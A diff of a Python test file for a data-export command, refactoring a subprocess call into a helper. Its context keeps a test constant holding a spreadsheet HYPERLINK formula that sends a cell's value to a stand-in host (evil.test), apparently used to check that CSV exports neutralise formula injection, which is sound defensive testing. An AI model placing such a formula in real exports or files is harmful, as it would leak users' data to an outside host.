@@ -2,9 +2,6 @@
 
 from __future__ import annotations
 
-import os
-import subprocess
-import sys
 from pathlib import Path
 
 import pandas as pd
@@ -12,6 +9,7 @@ import pandas as pd
 from diligence.analytics.models import build_models
 
 from ..models.rawdb import AS_OF, connection, create_raw, insert
+from .helpers import run
 
 HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
 
@@ -19,24 +17,7 @@ HYPERLINK = '=HYPERLINK("http://evil.test/?leak="&A1,"Open") AB'
 def _export(
     tmp_path: Path, out: str, *extra: str, env: dict[str, str] | None = None
 ) -> pd.DataFrame:
-    result = subprocess.run(
-        [
-            sys.executable,
-            "-m",
-            "diligence",
-            "export",
-            "--warehouse",
-            "w.duckdb",
-            "--out",
-            out,
-            *extra,
-        ],
-        cwd=tmp_path,
-        capture_output=True,
-        text=True,
-        timeout=120,
-        env={**os.environ, **(env or {})},
-    )
+    result = run(["export", "--warehouse", "w.duckdb", "--out", out, *extra], tmp_path, env)
     assert result.returncode == 0, result.stderr
     return pd.read_csv(tmp_path / out / "connections.csv", keep_default_na=False)
 
